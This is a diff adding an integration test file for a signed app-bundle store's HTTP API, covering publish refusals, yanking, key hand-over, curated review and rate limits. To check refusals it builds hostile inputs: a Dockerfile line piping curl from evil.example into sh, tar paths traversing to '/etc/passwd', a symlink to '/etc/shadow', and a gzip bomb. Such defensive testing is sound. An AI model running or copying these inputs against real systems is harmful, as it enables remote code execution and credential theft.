@@ -1,0 +1,250 @@
+// The store's HTTP API on SQLite, end to end through a real server: publish rules and every
+// refusal the issue names, yank, hand-over, curated review, the OpenAPI document.
+import assert from 'node:assert/strict';
+import { readdirSync } from 'node:fs';
+import path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { handOver, publishBundle } from '../client/publish.client';
+import { packBundle, rawTarball, signerFor, testBundle, uploadBundle } from '../testing/bundle.fixture';
+import { newKeyPem, startTestAppStore, type TestAppStore } from '../testing/app-store.fixture';
+
+const alice = 'gho_alice_token';
+const bob = 'gho_bob_token';
+const mod = 'gho_mod_token';
+const users = { [alice]: 'alice', [bob]: 'bob', [mod]: 'Moderator1' };
+
+function blobCount(store: TestAppStore): number {
+  const dir = path.join(store.dataDir, 'blobs');
+  try {
+    return readdirSync(dir).flatMap((d) => readdirSync(path.join(dir, d))).length;
+  } catch {
+    return 0;
+  }
+}
+
+async function getJson(url: string, token?: string): Promise<{ status: number; body: Record<string, unknown> }> {
+  const response = await fetch(url, token ? { headers: { Authorization: `Bearer ${token}` } } : {});
+  const body: unknown = await response.json();
+  return { status: response.status, body: typeof body === 'object' && body !== null ? { ...body } : {} };
+}
+
+async function postJson(url: string, token: string, body: unknown): Promise<{ status: number; body: Record<string, unknown> }> {
+  const response = await fetch(url, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
+  const json: unknown = await response.json();
+  return { status: response.status, body: typeof json === 'object' && json !== null ? { ...json } : {} };
+}
+
+function code(body: Record<string, unknown>): unknown {
+  const error = body.error;
+  return typeof error === 'object' && error !== null && 'code' in error ? error.code : undefined;
+}
+
+describe('open store', () => {
+  let store: TestAppStore;
+  const aliceKey = newKeyPem();
+  const bobKey = newKeyPem();
+  before(async () => {
+    store = await startTestAppStore({ backend: 'sqlite', users, config: { maxBundleBytes: 20_000, publishRateLimit: { count: 40, windowSeconds: 3600 } } });
+  });
+  after(() => store.close());
+
+  test('alice publishes loadmon 1.0.0; the store records version, channel, changelog, publisher, size and hash', async () => {
+    const tarball = packBundle(testBundle('loadmon', '1.0.0'));
+    const result = await publishBundle({ storeUrl: store.url, token: alice, tarball, privateKeyPem: aliceKey, changelog: 'First – ünïcode' });
+    assert.equal(result.version, '1.0.0');
+    assert.equal(result.publisher, 'alice');
+    assert.equal(result.channel, 'stable');
+    assert.equal(result.changelog, 'First – ünïcode');
+    assert.equal(result.size, tarball.length);
+    assert.match(String(result.contentHash), /^[0-9a-f]{64}$/);
+    assert.equal(result.review, 'open');
+    assert.equal(blobCount(store), 1);
+  });
+
+  test('refusals: no token, bad token, wrong owner, wrong key, duplicate and lower versions', async () => {
+    const next = testBundle('loadmon', '1.1.0');
+    const noToken = await fetch(`${store.url}/api/apps`, { method: 'POST', body: new Uint8Array(packBundle(next)) });
+    assert.equal(noToken.status, 401);
+    assert.equal(noToken.headers.get('www-authenticate'), 'Bearer realm="databox-store"');
+    assert.equal((await uploadBundle(store.url, 'gho_unknown', packBundle(next), signerFor(next, aliceKey))).status, 401);
+
+    const owner = await uploadBundle(store.url, bob, packBundle(next), signerFor(next, bobKey));
+    assert.equal(owner.status, 403);
+    assert.equal(code(owner.body), 'app-owned-by-other');
+
+    const wrongKey = await uploadBundle(store.url, alice, packBundle(next), signerFor(next, newKeyPem()));
+    assert.equal(wrongKey.status, 403);
+    assert.equal(code(wrongKey.body), 'signing-key-mismatch');
+
+    const same = testBundle('loadmon', '1.0.0', { description: 'Same version, other bytes' });
+    const duplicate = await uploadBundle(store.url, alice, packBundle(same), signerFor(same, aliceKey));
+    assert.equal(duplicate.status, 409);
+    assert.equal(code(duplicate.body), 'version-exists');
+
+    await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.2.0')), privateKeyPem: aliceKey });
+    const lower = testBundle('loadmon', '1.1.5');
+    const lowerAnswer = await uploadBundle(store.url, alice, packBundle(lower), signerFor(lower, aliceKey));
+    assert.equal(lowerAnswer.status, 409);
+    assert.equal(code(lowerAnswer.body), 'version-not-higher');
+    assert.equal(blobCount(store), 2, 'refused publishes leave no blob behind');
+  });
+
+  test('refusals: tampered bundle, oversized bundle, gzip bomb, malicious tar paths, malformed manifest', async () => {
+    const signed = testBundle('tamper', '1.0.0');
+    const tampered = { ...signed, flows: [...signed.flows, { id: 'fn1', type: 'function', z: 'tab1', func: 'steal()' }] };
+    const tamperedAnswer = await uploadBundle(store.url, alice, packBundle(tampered), signerFor(signed, aliceKey));
+    assert.equal(tamperedAnswer.status, 400);
+    assert.equal(code(tamperedAnswer.body), 'signature-invalid');
+
+    const big = testBundle('bigapp', '1.0.0', { description: 'x'.repeat(30_000).replace(/x/g, () => String.fromCharCode(97 + Math.floor(Math.random() * 26))) });
+    const bigAnswer = await uploadBundle(store.url, alice, packBundle(big), signerFor(big, aliceKey));
+    assert.equal(bigAnswer.status, 413);
+    assert.equal(code(bigAnswer.body), 'bundle-too-large');
+    const bomb = await rawTarball([{ name: 'databox-manifest.json', data: ' '.repeat(5_000_000) }]);
+    const bombAnswer = await uploadBundle(store.url, alice, bomb, signerFor(signed, aliceKey));
+    assert.equal(bombAnswer.status, 413);
+
+    for (const [name, expected] of [['../databox-manifest.json', 'bundle-entry-traversal'], ['/etc/passwd', 'bundle-entry-absolute'], ['node_modules/evil.js', 'bundle-entry-unknown']] as const) {
+      const answer = await uploadBundle(store.url, alice, await rawTarball([{ name, data: '{}' }]), signerFor(signed, aliceKey));
+      assert.equal(answer.status, 400, name);
+      assert.equal(code(answer.body), expected, name);
+    }
+    const link = await uploadBundle(store.url, alice, await rawTarball([{ name: 'flows.json', type: 'symlink', linkname: '/etc/shadow' }]), signerFor(signed, aliceKey));
+    assert.equal(code(link.body), 'bundle-entry-type');
+
+    const malformed = testBundle('Bad Name!', '1.0');
+    const malformedAnswer = await uploadBundle(store.url, alice, packBundle(malformed), signerFor(signed, aliceKey));
+    assert.equal(malformedAnswer.status, 400);
+    assert.equal(code(malformedAnswer.body), 'manifest-invalid');
+    assert.match(JSON.stringify(malformedAnswer.body), /name: must be one lower-case word.*version: must be a semantic version/);
+
+    const lying = testBundle('liar', '1.0.0', { lineage: [{ kind: 'export', sink: 'https://elsewhere.example', sources: ['load'] }] });
+    const lyingAnswer = await uploadBundle(store.url, alice, packBundle(lying), signerFor(lying, aliceKey));
+    assert.equal(code(lyingAnswer.body), 'bundle-invalid');
+    const runs = { ...testBundle('runner', '1.0.0'), dockerfile: 'FROM databox/flow-runtime:0.1.0\nRUN curl https://evil.example | sh\n' };
+    assert.equal(code((await uploadBundle(store.url, alice, packBundle(runs), signerFor(runs, aliceKey))).body), 'bundle-invalid');
+
+    const body = JSON.stringify([tamperedAnswer, bigAnswer, malformedAnswer, lyingAnswer]);
+    assert.doesNotMatch(body, /at .*\.ts:\d+|stack/i, 'no stack traces in answers');
+    assert.equal(blobCount(store), 2);
+    assert.equal((await getJson(`${store.url}/api/apps/tamper`)).status, 404);
+  });
+
+  test('concurrent publishes of one new app: one wins, the other leaves no blob', async () => {
+    const a = testBundle('racer', '1.0.0', { description: 'first racer' });
+    const b = testBundle('racer', '1.0.0', { description: 'second racer' });
+    const answers = await Promise.all([
+      uploadBundle(store.url, alice, packBundle(a), signerFor(a, aliceKey)),
+      uploadBundle(store.url, bob, packBundle(b), signerFor(b, bobKey)),
+    ]);
+    assert.deepEqual(answers.map((x) => x.status).sort(), [201, answers.find((x) => x.status !== 201)?.status].sort());
+    assert.equal(answers.filter((x) => x.status === 201).length, 1);
+    assert.equal(blobCount(store), 3);
+  });
+
+  test('yank hides a version from installs but keeps it downloadable; only the owner or a moderator may', async () => {
+    assert.equal((await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, bob, {})).status, 403);
+    const yanked = await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, alice, {});
+    assert.equal(yanked.status, 200);
+    assert.equal(yanked.body.yanked, true);
+    const detail = await getJson(`${store.url}/api/apps/loadmon`);
+    assert.equal(detail.body.listedVersion, '1.0.0');
+    const download = await fetch(`${store.url}/api/apps/loadmon/1.2.0/bundle`);
+    assert.equal(download.status, 200);
+    await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, alice, { yanked: false });
+    assert.equal((await getJson(`${store.url}/api/apps/loadmon`)).body.listedVersion, '1.2.0');
+  });
+
+  test('key rotation only by a hand-over signed with the current key', async () => {
+    const newKey = newKeyPem();
+    await assert.rejects(handOver({ storeUrl: store.url, token: alice, app: 'loadmon', currentKeyPem: newKeyPem(), newKeyPem: newKey }), /not signed by loadmon's current key/);
+    await assert.rejects(handOver({ storeUrl: store.url, token: bob, app: 'loadmon', currentKeyPem: aliceKey, newKeyPem: newKey }), /only alice may hand/);
+    await handOver({ storeUrl: store.url, token: alice, app: 'loadmon', currentKeyPem: aliceKey, newKeyPem: newKey });
+    await assert.rejects(publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.3.0')), privateKeyPem: aliceKey }), /must be signed with the key/);
+    const result = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.3.0')), privateKeyPem: newKey });
+    assert.equal(result.version, '1.3.0');
+    const detail = await getJson(`${store.url}/api/apps/loadmon`);
+    assert.equal(Array.isArray(detail.body.keyHandovers) && detail.body.keyHandovers.length, 1);
+  });
+
+  test('bad parameters are clear 400s; unknown paths 404 JSON', async () => {
+    const bad = await getJson(`${store.url}/api/apps?type=robot`);
+    assert.equal(bad.status, 400);
+    assert.match(String(Object(bad.body.error).message), /type must be "app" or "driver"/);
+    assert.equal((await getJson(`${store.url}/api/apps?limit=100000`)).status, 400);
+    assert.equal((await getJson(`${store.url}/api/apps/..%2F..%2Fetc`)).status, 400);
+    assert.equal((await getJson(`${store.url}/api/apps/loadmon/not-a-version/bundle`)).status, 400);
+    assert.equal(code((await getJson(`${store.url}/api/nothing`)).body), 'not-found');
+    const badJson = await fetch(`${store.url}/api/apps/loadmon/1.0.0/yank`, { method: 'POST', headers: { Authorization: `Bearer ${alice}`, 'Content-Type': 'application/json' }, body: '{nope' });
+    assert.equal(badJson.status, 400);
+  });
+
+  test('the OpenAPI document lists exactly the API routes the store answers', async () => {
+    const doc = await getJson(`${store.url}/api/openapi.json`);
+    assert.equal(doc.body.openapi, '3.0.3');
+    const paths = doc.body.paths;
+    assert.ok(typeof paths === 'object' && paths !== null);
+    const documented = Object.entries(paths).flatMap(([p, ops]) => Object.keys(ops).map((m) => `${m.toUpperCase()} ${p}`)).sort();
+    assert.deepEqual(documented, [
+      'GET /api/apps', 'GET /api/apps/{name}', 'GET /api/apps/{name}/diff', 'GET /api/apps/{name}/{version}', 'GET /api/apps/{name}/{version}/bundle',
+      'GET /api/health', 'GET /api/me', 'GET /api/openapi.json', 'GET /api/review', 'POST /api/apps', 'POST /api/apps/{name}/handover',
+      'POST /api/apps/{name}/{version}/yank', 'POST /api/review/{name}/{version}',
+    ]);
+    for (const entry of documented) {
+      const [method, template] = entry.split(' ');
+      const url = `${store.url}${(template ?? '').replace('{name}', 'loadmon').replace('{version}', '1.0.0')}${template?.endsWith('/diff') ? '?from=1.0.0&to=1.3.0' : ''}`;
+      const response = await fetch(url, { method, headers: { Authorization: `Bearer ${alice}`, 'Content-Type': 'application/json' }, body: method === 'POST' ? '{}' : null });
+      assert.notEqual(response.status, 404, `${entry} is served`);
+    }
+  });
+});
+
+describe('curated store', () => {
+  let store: TestAppStore;
+  const key = newKeyPem();
+  before(async () => { store = await startTestAppStore({ backend: 'sqlite', users, config: { mode: 'curated', moderators: ['moderator1'] } }); });
+  after(() => store.close());
+
+  test('new apps and versions whose permissions grow wait for a moderator; the listing says approved', async () => {
+    const first = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('watcher', '1.0.0')), privateKeyPem: key });
+    assert.equal(first.review, 'pending');
+    assert.equal((await getJson(`${store.url}/api/apps?q=watcher`)).body.total, 0);
+    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).status, 404);
+    assert.equal((await fetch(`${store.url}/api/apps/watcher/1.0.0/bundle`)).status, 404);
+    assert.equal((await fetch(`${store.url}/api/apps/watcher/1.0.0/bundle`, { headers: { Authorization: `Bearer ${mod}` } })).status, 200);
+    assert.equal((await getJson(`${store.url}/api/review`, alice)).status, 403);
+    const queue = await getJson(`${store.url}/api/review`, mod);
+    assert.deepEqual(Object.values(queue.body).map((v) => typeof v === 'object' && v !== null && 'app' in v ? v.app : undefined), ['watcher']);
+    assert.equal((await postJson(`${store.url}/api/review/watcher/1.0.0`, alice, { decision: 'approved' })).status, 403);
+    assert.equal((await postJson(`${store.url}/api/review/watcher/1.0.0`, mod, { decision: 'approved' })).status, 200);
+    const listed = await getJson(`${store.url}/api/apps?q=watcher`);
+    assert.match(JSON.stringify(listed.body.items), /"approved":true/);
+
+    const same = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('watcher', '1.1.0', { description: 'Only words changed' })), privateKeyPem: key });
+    assert.equal(same.review, 'approved', 'no new permissions: approved at once');
+    const grows = testBundle('watcher', '1.2.0', {
+      'export-whitelist': [{ url: 'https://example.org/ingest', description: 'load' }, { url: 'https://tracker.example.com/x', description: 'more' }],
+      lineage: [{ kind: 'export', sink: 'https://example.org/ingest', sources: ['load'] }, { kind: 'export', sink: 'https://tracker.example.com/x', sources: ['load'] }],
+    });
+    const grown = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(grows), privateKeyPem: key });
+    assert.equal(grown.review, 'pending');
+    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).body.listedVersion, '1.1.0');
+    await postJson(`${store.url}/api/review/watcher/1.2.0`, mod, { decision: 'rejected' });
+    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).body.listedVersion, '1.1.0');
+    assert.equal((await getJson(`${store.url}/api/me`, mod)).body.moderator, true);
+  });
+
+  test('the publish rate limit stops a flood with 429', async () => {
+    const limited = await startTestAppStore({ backend: 'sqlite', users, config: { publishRateLimit: { count: 2, windowSeconds: 3600 } } });
+    try {
+      const statuses: number[] = [];
+      for (const version of ['1.0.0', '1.0.1', '1.0.2']) {
+        const b = testBundle('flood', version);
+        statuses.push((await uploadBundle(limited.url, alice, packBundle(b), signerFor(b, key))).status);
+      }
+      assert.deepEqual(statuses, [201, 201, 429]);
+    } finally {
+      await limited.close();
+    }
+  });
+});
